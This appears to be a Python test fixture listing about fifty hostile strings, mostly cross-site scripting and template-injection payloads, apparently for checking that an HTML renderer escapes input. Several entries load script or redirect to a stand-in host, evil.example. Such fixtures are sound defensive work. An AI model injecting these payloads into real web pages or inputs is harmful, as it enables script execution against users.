"""Fifty texts that want to be more than text."""

__all__ = ["HOSTILE"]

HOSTILE = [
    *("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</script><script>alert(1)</script>"),
    *("<svg/onload=alert(1)>", "'\"><b>", "<!--", "]]>", "${alert(1)}", "{{7*7}}", "javascript:alert(1)"),
    *("<iframe src=javascript:alert(1)>", "<a href=javascript:alert(1)>x", "&lt;b&gt;", "&#60;script&#62;"),
    *("\\u003cscript\\u003e", "\u2028alert(1)", "</wire-view>", "<style>*{display:none}</style>"),
    *("<base href=//evil.example>", "\x1b[31mred", "\x00nul", "\u202egnirts", "<template>"),
    *("<math><mi//xlink:href=x>", "<body onload=alert(1)>"),
    *("<IMG SRC=X ONERROR=alert(1)>", "<img src=x onerror=alert(1)//", "<<script>alert(1)//<</script>"),
    *(
        "<script src=//evil.example/x.js></script>",
        "<scr<script>ipt>alert(1)</script>",
        "<!--><script>alert(1)</script>",
    ),
    *(
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)>",
        "<audio src=x onerror=alert(1)>",
    ),
    *(
        "<input autofocus onfocus=alert(1)>",
        "<object data=javascript:alert(1)>",
        "<embed src=javascript:alert(1)>",
    ),
    *(
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<link rel=stylesheet href=//evil.example>",
    ),
    *(
        "<form action=javascript:alert(1)><button>x",
        "<table background=javascript:alert(1)>",
        "</textarea><b>",
    ),
    *(
        "</title><script>alert(1)</script>",
        "</pre></div><b>",
        "--><b>",
        "<?xml version='1.0'?>",
        "<![CDATA[x]]>",
    ),
    *("data:text/html,<script>alert(1)</script>", '" onmouseover="alert(1)', "' onmouseover='alert(1)"),
]
